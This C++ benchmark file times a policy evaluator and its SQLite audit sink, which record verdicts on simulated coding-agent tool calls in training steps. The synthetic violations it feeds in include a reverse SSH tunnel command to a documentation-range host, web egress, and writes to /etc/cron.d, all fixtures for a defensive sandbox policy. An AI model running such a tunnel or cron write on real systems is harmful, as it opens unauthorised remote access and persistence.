// Recording cost: the step loop at 1,000 events per step, without and with an
// audit SqliteSink, and the overhead ratio between the two.
//
//   build/bench/audit_benchmark --benchmark_filter=StepLoop/ --benchmark_min_time=1 \
//       --benchmark_repetitions=12 --benchmark_enable_random_interleaving=true \
//       --benchmark_report_aggregates_only=true
//
// Each iteration is one training step: 1,000 envs each make one call,
// evaluated in one batch. The mix is what a coding agent mostly does: file
// reads and writes, test runs and other shell commands, with ~5% violations
// (egress, a tunnel, writes to system files); the arguments change from step
// to step (8 variants rotate), so nothing can be cached across steps. With
// recording, each verdict is added to an EventBatch that goes to the sink's
// queue once per step. Every 100 steps an episode ends and the step loop
// asks for a commit:
//   BM_StepLoop/1  EventBatch, RequestFlush at episode end (commit, don't wait)
//   BM_StepLoop/2  EventBatch, Flush at episode end (wait until durable)
//   BM_StepLoop/3  one DecisionRecord per event (MakeRecord + WriteBatch),
//                  RequestFlush at episode end
//   BM_StepLoop/4  EventBatch::Add only, no sink: the step thread's own share
//   BM_StepLoop/5  EventBatch, RequestFlush after every step (vector envs
//                  whose episodes end at different steps: a commit per step)
// Wall time, since the writer thread works beside the step loop; "cpu" is
// the step thread's own time; write_ms and flush_ms the time per step the
// step thread spent in WriteBatch and in (Request)Flush.
//
// BM_StepLoopOldMix/*: the mix this benchmark used first (22% violations:
// every HTTP request is blocked), for comparison.
#include <sys/resource.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <map>
#include <string>
#include <vector>

#include "benchmark/benchmark.h"
#include "rewardguard/audit/sqlite_sink.h"
#include "rewardguard/eval/evaluator.h"

namespace rewardguard {
namespace {

constexpr int kEventsPerStep = 1000;
constexpr int kStepsPerEpisode = 100;

struct StepInputs {
  std::vector<std::string> tools, args;
  std::vector<ToolCall> calls;
  std::vector<int32_t> env_ids;
};

double ProcessCpuSeconds() {
  rusage u;
  getrusage(RUSAGE_SELF, &u);
  return static_cast<double>(u.ru_utime.tv_sec + u.ru_stime.tv_sec) +
         1e-6 * static_cast<double>(u.ru_utime.tv_usec + u.ru_stime.tv_usec);
}

// Bytes this process has handed to write(2) and friends so far (Linux
// /proc/self/io `wchar`; 0 where unavailable): the recording's write volume,
// WAL and checkpoint together, which is steadier than its wall time.
int64_t ProcessWrittenBytes() {
  std::FILE* f = std::fopen("/proc/self/io", "r");
  if (f == nullptr) return 0;
  char key[64];
  long long value = 0;
  int64_t written = 0;
  while (std::fscanf(f, "%63[^:]: %lld\n", key, &value) == 2)
    if (std::string_view(key) == "wchar") written = value;
  std::fclose(f);
  return written;
}

// Calls of step variant `variant`; `old_mix`: the first version's mix.
StepInputs MakeInputs(int variant, bool old_mix) {
  StepInputs in;
  const std::string v = std::to_string(variant);
  for (int env = 0; env < kEventsPerStep; ++env) {
    const std::string e = std::to_string(env);
    if (old_mix) {
      switch (env % 5) {
        case 0:
          in.tools.push_back("read_file");
          in.args.push_back("{\"path\": \"src/module" + e + ".py\"}");
          break;
        case 1:
          in.tools.push_back("write_file");
          in.args.push_back("{\"path\": \"src/out" + e + ".txt\", \"content\": \"x\"}");
          break;
        case 2:
          in.tools.push_back("shell");
          in.args.push_back("{\"command\": \"pytest -q tests/test_" + e + ".py\"}");
          break;
        case 3:
          in.tools.push_back("shell");
          in.args.push_back(env % 50 == 3 ? "{\"command\": \"ssh -fNR 9000:localhost:22 a@203.0.113.5\"}"
                                          : "{\"command\": \"ls -la src/\"}");
          break;
        default:
          in.tools.push_back("http_get");
          in.args.push_back("{\"url\": \"https://host" + e + ".example/x\"}");
      }
    } else {
      const int k = (env * 37 + variant * 11) % 100;
      if (k < 30) {
        in.tools.push_back("read_file");
        in.args.push_back("{\"path\": \"src/pkg" + v + "/module" + e + ".py\"}");
      } else if (k < 50) {
        in.tools.push_back("write_file");
        in.args.push_back("{\"path\": \"src/pkg" + v + "/out" + e +
                          ".py\", \"content\": \"def f():\\n    return " + e + "\\n\"}");
      } else if (k < 70) {
        in.tools.push_back("shell");
        in.args.push_back("{\"command\": \"pytest -q tests/test_" + e + ".py -k case" + v + "\"}");
      } else if (k < 95) {
        static const char* kCommands[] = {"ls -la src/", "git status", "grep -rn TODO src/",
                                          "python3 -m mypy src/", "cat README.md"};
        in.tools.push_back("shell");
        in.args.push_back(std::string("{\"command\": \"") + kCommands[(k + variant) % 5] + "\"}");
      } else if (k < 98) {
        in.tools.push_back("http_get");  // egress: blocked
        in.args.push_back("{\"url\": \"https://host" + e + ".example/x?v=" + v + "\"}");
      } else if (k < 99) {
        in.tools.push_back("shell");  // tunnel: terminate
        in.args.push_back("{\"command\": \"ssh -fNR 9000:localhost:22 a@203.0.113." + v + "\"}");
      } else {
        in.tools.push_back("write_file");  // system file: block
        in.args.push_back("{\"path\": \"/etc/cron.d/job" + v + "\", \"content\": \"x\"}");
      }
    }
    in.env_ids.push_back(env);
  }
  for (int i = 0; i < kEventsPerStep; ++i) in.calls.push_back({in.tools[i], in.args[i]});
  return in;
}

// mode: 0 evaluate only, 1-3 as above.
void StepLoop(benchmark::State& state, bool old_mix) {
  const int mode = static_cast<int>(state.range(0));
  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
  Evaluator evaluator(policy, kEventsPerStep);
  constexpr int kVariants = 8;
  std::vector<StepInputs> inputs;
  for (int v = 0; v < kVariants; ++v) inputs.push_back(MakeInputs(v, old_mix));
  std::vector<Verdict> verdicts(kEventsPerStep);
  std::vector<DecisionRecord> records(kEventsPerStep);
  EventBatch batch(policy);

  std::string dir = (std::filesystem::temp_directory_path() / "rg_audit_bench_XXXXXX").string();
  if (mkdtemp(dir.data()) == nullptr) {
    state.SkipWithError("mkdtemp failed");
    return;
  }
  std::unique_ptr<SqliteSink> sink;
  if (mode != 0) {
    auto opened = SqliteSink::Open(dir + "/audit.db", RunInfo::ForPolicy("bench", *policy));
    if (!opened.ok()) {
      state.SkipWithError(std::string(opened.status().message()).c_str());
      return;
    }
    sink = std::move(*opened);
  }

  int64_t step = 0, episode = 0, violations = 0, events = 0;
  std::chrono::duration<double, std::milli> write_wait{0}, flush_wait{0};
  const double cpu_start = ProcessCpuSeconds();
  const int64_t written_start = ProcessWrittenBytes();
  for (auto _ : state) {
    const StepInputs& in = inputs[(episode * kStepsPerEpisode + step) % kVariants];
    evaluator.EvaluateBatch(in.calls, in.env_ids, absl::MakeSpan(verdicts));
    if (mode == 4) {
      for (int i = 0; i < kEventsPerStep; ++i)
        batch.Add(verdicts[i], {.env = i, .episode = episode, .step = step,
                                .tool = in.calls[i].tool, .arguments = in.calls[i].arguments});
      batch.Clear();
    } else if (mode == 1 || mode == 2 || mode == 5) {
      for (int i = 0; i < kEventsPerStep; ++i)
        batch.Add(verdicts[i], {.env = i, .episode = episode, .step = step,
                                .tool = in.calls[i].tool, .arguments = in.calls[i].arguments});
      const auto t0 = std::chrono::steady_clock::now();
      if (!sink->WriteBatch(&batch).ok()) state.SkipWithError("write failed");
      write_wait += std::chrono::steady_clock::now() - t0;
    } else if (mode == 3) {
      for (int i = 0; i < kEventsPerStep; ++i)
        MakeRecord(*policy, verdicts[i],
                   {.env = i, .episode = episode, .step = step, .tool = in.calls[i].tool,
                    .arguments = in.calls[i].arguments},
                   &records[i]);
      if (!sink->WriteBatch(absl::MakeSpan(records)).ok()) state.SkipWithError("write failed");
    }
    if (mode == 5 && !sink->RequestFlush().ok()) state.SkipWithError("flush failed");
    benchmark::DoNotOptimize(verdicts.data());
    if (step == 0 && episode == 0) {
      for (const Verdict& v : verdicts) violations += v.action != Action::kAllow;
      events += kEventsPerStep;
    }
    if (++step == kStepsPerEpisode) {  // episode end
      step = 0;
      ++episode;
      evaluator.ResetAll();
      const auto t0 = std::chrono::steady_clock::now();
      if (sink && !(mode == 2 ? sink->Flush() : sink->RequestFlush()).ok())
        state.SkipWithError("flush failed");
      flush_wait += std::chrono::steady_clock::now() - t0;
    }
  }
  // The records still queued are part of the cost: wait for them.
  if (sink && !sink->Flush().ok()) state.SkipWithError("flush failed");
  // All threads (the writer too), per step: what recording costs in total
  // when the machine has no idle core to give the writer.
  state.counters["process_cpu_ms"] =
      1e3 * (ProcessCpuSeconds() - cpu_start) / static_cast<double>(state.iterations());
  state.counters["written_B_per_event"] =
      static_cast<double>(ProcessWrittenBytes() - written_start) /
      static_cast<double>(state.iterations() * kEventsPerStep);
  state.counters["write_ms"] = write_wait.count() / static_cast<double>(state.iterations());
  state.counters["flush_ms"] = flush_wait.count() / static_cast<double>(state.iterations());
  state.SetItemsProcessed(state.iterations() * kEventsPerStep);
  state.counters["violation_pct"] = events ? 100.0 * violations / events : 0.0;
  static const char* kLabels[] = {"evaluate only", "+ record (EventBatch, RequestFlush)",
                                  "+ record (EventBatch, Flush)",
                                  "+ record (DecisionRecord, RequestFlush)",
                                  "+ EventBatch::Add only (no sink)",
                                  "+ record (EventBatch, RequestFlush every step)"};
  state.SetLabel(kLabels[mode]);
  if (sink) (void)sink->Close();
  std::filesystem::remove_all(dir);
  // Let this run's last writes (the final checkpoint, the deleted files)
  // reach the disk now, untimed, rather than inside the next repetition's
  // timing, whichever mode that is: with interleaved repetitions they
  // otherwise land on a random neighbour (evaluate-only runs included).
  ::sync();
}

// The sink alone: verdicts evaluated once up front, then only EventBatch::Add
// and WriteBatch per step, so the writer thread is the limit. items_per_second
// is the sustained recording rate; flushed every 100 steps as above.
void BM_SinkThroughput(benchmark::State& state) {
  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
  Evaluator evaluator(policy, kEventsPerStep);
  constexpr int kVariants = 8;
  std::vector<StepInputs> inputs;
  std::vector<std::vector<Verdict>> verdicts(kVariants, std::vector<Verdict>(kEventsPerStep));
  for (int v = 0; v < kVariants; ++v) {
    inputs.push_back(MakeInputs(v, /*old_mix=*/false));
    evaluator.EvaluateBatch(inputs[v].calls, inputs[v].env_ids, absl::MakeSpan(verdicts[v]));
  }
  std::string dir = (std::filesystem::temp_directory_path() / "rg_audit_bench_XXXXXX").string();
  if (mkdtemp(dir.data()) == nullptr) {
    state.SkipWithError("mkdtemp failed");
    return;
  }
  auto sink = SqliteSink::Open(dir + "/audit.db", RunInfo::ForPolicy("bench", *policy));
  if (!sink.ok()) {
    state.SkipWithError(std::string(sink.status().message()).c_str());
    return;
  }
  EventBatch batch(policy);
  int64_t step = 0, episode = 0;
  const double cpu_start = ProcessCpuSeconds();
  for (auto _ : state) {
    const int v = static_cast<int>((episode * kStepsPerEpisode + step) % kVariants);
    for (int i = 0; i < kEventsPerStep; ++i)
      batch.Add(verdicts[v][i], {.env = i, .episode = episode, .step = step,
                                 .tool = inputs[v].calls[i].tool,
                                 .arguments = inputs[v].calls[i].arguments});
    if (!(*sink)->WriteBatch(&batch).ok()) state.SkipWithError("write failed");
    if (++step == kStepsPerEpisode) {
      step = 0;
      ++episode;
      if (!(*sink)->Flush().ok()) state.SkipWithError("flush failed");
    }
  }
  if (!(*sink)->Flush().ok()) state.SkipWithError("flush failed");
  state.counters["process_cpu_ns_per_event"] = 1e9 * (ProcessCpuSeconds() - cpu_start) /
                                               static_cast<double>(state.iterations() * kEventsPerStep);
  state.SetItemsProcessed(state.iterations() * kEventsPerStep);
  (void)(*sink)->Close();
  std::filesystem::remove_all(dir);
}
BENCHMARK(BM_SinkThroughput)->Unit(benchmark::kMillisecond)->UseRealTime();

void BM_StepLoop(benchmark::State& state) { StepLoop(state, /*old_mix=*/false); }
void BM_StepLoopOldMix(benchmark::State& state) { StepLoop(state, /*old_mix=*/true); }
BENCHMARK(BM_StepLoop)->Arg(0)->Arg(1)->Arg(2)->Arg(3)->Arg(4)->Arg(5)->Unit(benchmark::kMillisecond)->UseRealTime();
BENCHMARK(BM_StepLoopOldMix)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond)->UseRealTime();

// Prints, after the table, the wall and step-thread CPU overhead of each
// recording variant over evaluate-only (medians when repeated).
class RatioReporter : public benchmark::ConsoleReporter {
 public:
  void ReportRuns(const std::vector<Run>& runs) override {
    ConsoleReporter::ReportRuns(runs);
    for (const Run& run : runs) {
      if (run.error_occurred) continue;
      const bool aggregate = run.run_type == Run::RT_Aggregate;
      if (aggregate && run.aggregate_name != "median") continue;
      if (!aggregate && saw_aggregates_) continue;
      saw_aggregates_ |= aggregate;
      const std::string name = run.run_name.function_name + "/" + run.run_name.args;
      auto process = run.counters.find("process_cpu_ms");
      times_[name] = {run.GetAdjustedRealTime(), run.GetAdjustedCPUTime(),
                      process != run.counters.end() ? process->second.value : 0.0};
    }
  }
  void Finalize() override {
    ConsoleReporter::Finalize();
    for (const char* family : {"BM_StepLoop", "BM_StepLoopOldMix"}) {
      auto plain = times_.find(std::string(family) + "/0");
      if (plain == times_.end()) continue;
      for (const char* mode : {"1", "2", "3", "4", "5"}) {
        auto rec = times_.find(std::string(family) + "/" + mode);
        if (rec == times_.end()) continue;
        const Times& p = plain->second;
        const Times& r = rec->second;
        std::printf("%s/%s: %.3f ms/step plain, %.3f ms recording: wall overhead %+.1f%%, "
                    "step-thread cpu %+.1f%%, process cpu (all threads) %+.1f%%\n",
                    family, mode, p.wall, r.wall, 100.0 * (r.wall / p.wall - 1.0),
                    100.0 * (r.step_cpu / p.step_cpu - 1.0),
                    100.0 * (r.process_cpu / p.process_cpu - 1.0));
      }
    }
  }

 private:
  struct Times {
    double wall, step_cpu, process_cpu;  // ms per step
  };
  bool saw_aggregates_ = false;
  std::map<std::string, Times> times_;
};

}  // namespace
}  // namespace rewardguard

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  rewardguard::RatioReporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  benchmark::Shutdown();
  return 0;
}
